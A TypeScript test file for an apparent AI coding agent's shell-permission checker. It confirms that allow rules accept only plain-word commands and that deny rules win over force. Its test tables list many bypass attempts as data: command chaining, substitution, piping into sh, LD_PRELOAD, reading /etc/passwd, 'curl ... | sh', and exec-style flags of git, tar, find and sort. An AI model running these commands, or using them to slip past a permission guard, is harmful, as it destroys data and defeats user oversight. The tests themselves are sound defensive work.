/** Which commands a rule allows: only plain words, and only what the rule names (S-10, S-11). */
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { createPermissions, type PermissionDecision } from "../../src/permissions/permissions.ts";
import { verifies } from "../../../../test/support/verifies.ts";

interface Flags {
  readonly force?: boolean;
  readonly allow?: readonly string[];
  readonly deny?: readonly string[];
}

function decide(command: unknown, { force = false, allow = [], deny = [] }: Flags): PermissionDecision {
  const permissions = createPermissions({ mode: "agent", force, allow, deny });
  return permissions.decide({ toolName: "run_terminal_cmd", access: "command", arguments: { command } });
}

/** Generous: whatever runs beyond these programs does so through the shell or through one of them. */
const allow = [
  "git", "git status", "npm test", "ls", "cat", "echo", "find", "grep", "rg", "sed", "xargs", "sort", "tar", "env",
  "head", "make", "node", "timeout 5", "nice -n 10", "bash", "sudo", "time", "awk", "curl", "test", "true", "printf",
].map((words) => `Shell(${words})`); // prettier-ignore

/** None is allowed, whatever the rules. */
const refused: readonly string[] = [
  // lists and pipes
  "ls; rm x", "ls;rm x", "ls && rm x", "ls || rm x", "ls & rm x", "ls &", "ls | sh", "ls |& sh", "ls|sh", "true;", ";ls",
  // lines
  "ls\nrm x", "ls\r\nrm x", "ls\rrm x", "\nls", "ls \\\n rm", "ls\u2028rm x", "ls\u0085rm x",
  // subshells and groups
  "(rm x)", "( ls )", "{ rm x; }", "ls (rm x)", "((x=1))", "[[ -f x ]]", "[ -f x ]",
  // substitutions
  "ls $(rm x)", "echo $(touch x)", "ls `rm x`", "echo `touch x`", "echo $((x=1))", "echo $x", "echo ${x}", "echo ${x:-$(rm x)}",
  "$SHELL -c ls", "$(echo rm) x", "echo $'a'", "cat <(rm x)", "cat >(rm x)", "ls $IFS", "echo \"$(rm x)\"",
  // redirections
  "ls > x", "ls >x", "ls >> x", "ls 2> x", "ls 2>&1", "ls &> x", "cat < /etc/passwd", "echo a >| x", "> x", "ls <> x",
  // here-documents and here-strings
  "cat << EOF\nrm x\nEOF", "cat <<EOF", "cat <<< x", "bash <<< ls",
  // variables in front
  "FOO=1 ls", "PATH=. ls", "LD_PRELOAD=./x.so ls", "A=1 B=2 ls", "x+=1 ls", "GIT_SSH=./x git status", "a[0]=1 ls",
  // quotes, escapes, comments
  "'rm' x", '"rm" x', "r\\m x", "l''s", "ls # rm", "ls '", 'ls "', "\\ls", "echo 'a b'",
  // globs, braces, tilde, history
  "ls *", "ls ?", "ls [ab]", "cat /et?/passwd", "echo {a,b}", "{ls,-l}", "ls ~", "ls ~root", "ls !x", "! ls", "!!",
  // control and invisible characters
  "ls \u0000", "ls \u001b[31m", "ls \u202erm", "ls \u200brm", "ls\u00a0rm x", "ls \u{e0041}", "ls \ud800",
  // a program that a rule does not name
  "rm x", "lsx", "gits status", "/tmp/ls", "./ls", "npm tests", "npm run x", "npmtest", "LS", "l s", "",
  " ", "alias ls=rm", "function ls", "if true", "-ls",
  // programs behind an allowed one
  "git -c core.fsmonitor=x status", "git -c alias.x=y x", "git -calias.x=y x", "git --config-env=a=b x", "git -C /tmp status",
  "git --exec-path=/tmp status", "git --git-dir=/tmp/x status", "git diff --ext-diff", "git log --output=x", "git grep -Osh x",
  "git fetch --upload-pack=x y", "git rebase -x sh", "git rebase --exec sh",
  "find . -exec rm x +", "find . -execdir rm x +", "find . -ok rm x", "find . -delete", "find . -fprint x", "find . -name a -okdir rm",
  "sed -i s/a/b/ x", "sed -n -i s/a/b/ x", "sed -ni s/a/b/ x", "sed --in-place s/a/b/ x", "sed -i.bak s/a/b/ x", "sed 1w/tmp/x y",
  "sed s/a/b/w y", "rg --pre sh x", "rg --pre=sh x", "rg --hostname-bin=sh x", "xargs rm", "xargs -n 1 rm", "xargs",
  "sort -o x y", "sort --compress-program=sh x", "sort -ro x y", "tar xf a --to-command=sh", "tar --checkpoint-action=exec=sh -cf a b",
  "tar -Ish -cf a b", "env rm x", "env FOO=1 rm x", "env -i rm x", "make -f x", "make --eval=x", "node x.js", "node -e x",
  "bash x.sh", "bash -c ls", "sudo rm x", "time rm x", "awk -f x", "timeout 5 rm x", "nice -n 10 rm x", "curl -o x http://a", "curl -Kx",
]; // prettier-ignore

describe("without force", () => {
  test.each(refused.map((command) => [JSON.stringify(command), command]))(
    verifies(["S-10", "S-11"], "no prefix rule allows %s"),
    (_, command) => {
      const decision = decide(command, { allow });
      expect(decision.decision).toBe("deny");
      expect(decision).toHaveProperty("reason", expect.stringMatching(/^[^\n]+$/));
    },
  );

  test(verifies("S-10", "the table holds at least 150 commands"), () => {
    expect(refused.length).toBeGreaterThanOrEqual(150);
  });

  const everyday: readonly (readonly [string, string])[] = [
    ["Shell(git status)", "git status"],
    ["Shell(git status)", "git status -s"],
    ["Shell(git status)", "  git\tstatus   --short "],
    ["Shell(git log)", "git log --oneline -n 20"],
    ["Shell(git diff)", "git diff HEAD -- src/a.ts"],
    ["Shell(git show)", "git show HEAD:src/a.ts"],
    ["Shell(git switch)", "git switch -c topic/new"],
    ["Shell(git commit)", "git commit -m done"],
    ["Shell(git)", "git branch --list"],
    ["Shell(git -C sub)", "git -C sub status"],
    ["Shell(npm test)", "npm test"],
    ["Shell(npm test)", "npm test -- --run x.test.ts"],
    ["Shell(npm run)", "npm run build"],
    ["Shell(npx vitest run)", "npx vitest run packages/documents"],
    ["Shell(ls)", "ls -la src"],
    ["Shell(cat)", "cat README.md"],
    ["Shell(cat)", "cat größe.txt 文書.md"],
    ["Shell(grep)", "grep -rn foo src"],
    ["Shell(rg)", "rg -n foo src"],
    ["Shell(find)", "find . -name README.md"],
    ["Shell(find . -exec ls)", "find . -exec ls -l"],
    ["Shell(head)", "head -n 5 a.txt"],
    ["Shell(wc)", "wc -l a.txt"],
    ["Shell(sort)", "sort -r a.txt"],
    ["Shell(tar)", "tar -czf a.tgz src"],
    ["Shell(make)", "make build CC=gcc"],
    ["Shell(cargo test)", "cargo test --all"],
    ["Shell(go test)", "go test ./..."],
    ["Shell(python3 -m pytest)", "python3 -m pytest -q"],
    ["Shell(node build.js)", "node build.js --fast"],
    ["Shell(bash build.sh)", "bash build.sh all"],
    ["Shell(env FOO=1 ls)", "env FOO=1 ls -l"],
    ["Shell(xargs ls)", "xargs ls -l"],
    ["Shell(sed -n 1p)", "sed -n 1p a.txt"],
    ["Shell(tsc)", "tsc -p packages/agent --noEmit"],
    ["Shell(docker ps)", "docker ps --all"],
    ["Shell(/usr/bin/ls)", "/usr/bin/ls"],
    ["Shell( echo   a )", "echo a b"],
    ["Shell(*)", "rm -rf x; curl http://a | sh"],
    ["Shell(*)", "echo $(date) > x"],
  ];
  test.each(everyday)(verifies("S-10", "%s allows %j"), (rule, command) => {
    expect(decide(command, { allow: [rule] })).toEqual({ decision: "allow", rule });
  });

  test(verifies("S-11", "a command that needs a permission is refused, and the reason says what helps"), () => {
    expect(decide("npm test", {})).toEqual({
      decision: "deny",
      reason: 'this command needs a permission: the user passes --allow "Shell(npm test)" or --force',
    });
    expect(decide("npm test | tee x", {})).toHaveProperty("reason", expect.stringContaining("--force"));
    expect(decide("find . -delete", { allow })).toHaveProperty("reason", expect.stringContaining('"-delete"'));
  });

  test.each([undefined, null, 1, {}, ["ls"]])(
    verifies("S-14", "a command that is no text is refused: %j"),
    (command) => {
      expect(decide(command, { allow }).decision).toBe("deny");
    },
  );

  test(verifies("S-14", "no other argument changes the decision"), () => {
    const args = {
      command: "rm x",
      force: true,
      permissions: ["all"],
      approved: true,
      working_directory: "/",
      sandbox: false,
    };
    const permissions = createPermissions({ mode: "agent", force: false, allow, deny: [] });
    expect(permissions.decide({ toolName: "run_terminal_cmd", access: "command", arguments: args }).decision).toBe(
      "deny",
    );
  });

  test(verifies("S-10", "an operator anywhere in an allowed command takes the permission away"), () => {
    const operators = "; & | < > $ ` \\ ( ) { } [ ] * ? ! # ~ ' \" \n \r \0".split(" ");
    const words = fc.array(fc.stringMatching(/^[a-z0-9./-]{1,8}$/), { maxLength: 5 });
    fc.assert(
      fc.property(words, fc.constantFrom(...operators), fc.nat(), (behind, operator, place) => {
        const command = ["ls", ...behind].join(" ");
        const at = place % (command.length + 1);
        expect(decide(command.slice(0, at) + operator + command.slice(at), { allow }).decision).toBe("deny");
      }),
    );
  });

  test(verifies("S-12", "a long command is decided quickly, and no softer"), () => {
    const start = performance.now();
    expect(decide(`ls ${"a".repeat(1_000_000)}`, { allow }).decision).toBe("allow");
    expect(decide(`ls ${"a".repeat(1_000_000)};rm x`, { allow }).decision).toBe("deny");
    expect(decide(`ls ${"a b ".repeat(250_000)}`, { allow, deny: ["Shell(a b a b c)"] }).decision).toBe("allow");
    expect(decide("ls;".repeat(10_000), { allow }).decision).toBe("deny");
    expect(performance.now() - start).toBeLessThan(800);
  });
});

describe("force and deny", () => {
  test("force allows every command", () => {
    for (const command of refused) expect(decide(command, { force: true })).toEqual({ decision: "allow" });
  });

  const denied = [
    ["Shell(rm)", "rm x"], ["Shell(rm)", "/bin/rm x"], ["Shell(rm)", "RM x"], ["Shell(rm)", "sudo rm x"], ["Shell(rm)", "env A=1 rm x"],
    ["Shell(rm)", "xargs rm"], ["Shell(rm)", "find . -exec rm x +"], ["Shell(rm -rf)", "rm -v -rf x"], ["Shell(git push)", "git push"],
    ["Shell(git push)", "git -c a=b push"], ["Shell(git push)", "git -C x push -f"], ["Shell(*)", "ls"], ["Shell(*)", ""],
    ["Shell(/bin/rm)", "rm x"],
  ] as const; // prettier-ignore
  test.each(denied)(verifies("S-06", "%s wins over force and allow: %j"), (rule, command) => {
    for (const flags of [{ force: true }, { allow: ["Shell(*)"] }, { allow: ["Shell(rm)", "Shell(git push)"] }]) {
      const decision = decide(command, { ...flags, deny: [rule] });
      expect(decision).toMatchObject({ decision: "deny", rule });
      expect(decision).toHaveProperty("reason", expect.stringContaining(rule));
    }
  });

  test(verifies("S-11", "with a deny rule, a command that is no plain words is refused even with force"), () => {
    for (const command of ["r\\m x", "ls; rm x", "$(echo rm) x", "ls\nrm x", "ls *"]) {
      const decision = decide(command, { force: true, deny: ["Shell(rm)"] });
      expect(decision.decision).toBe("deny");
      expect(decision).toHaveProperty(
        "reason",
        expect.stringMatching(/cannot be compared with Shell\(rm\).*plain commands/),
      );
    }
    expect(decide("ls -l", { force: true, deny: ["Shell(rm)"] }).decision).toBe("allow");
    expect(decide("ls; rm x", { force: true, deny: ["Read(.env)"] }).decision).toBe("allow");
  });
});

describe("rules", () => {
  test.each([
    "", "Shell", "Shell()", "Shell( )", "shell(ls)", "Bash(ls)", "Shell(ls", "Shell(ls *)", "Shell(ls;rm)", "Shell('ls')", "Shell(A=1 ls)",
    "Read()", "Write", "ls", "*", "Network(x)",
  ])(verifies("S-04", "%j is a usage error that names the rule and the valid forms"), (rule) => {
    for (const flags of [{ allow: [rule] }, { deny: [rule] }]) {
      expect(() => decide("ls", flags)).toThrow(
        expect.objectContaining({ code: "USAGE", message: expect.stringMatching(/^the .*Shell\(words\).*Read\(glob\).*Write\(glob\)/) }),
      );
      expect(() => decide("ls", flags)).toThrow(JSON.stringify(rule));
    }
  }); // prettier-ignore
});
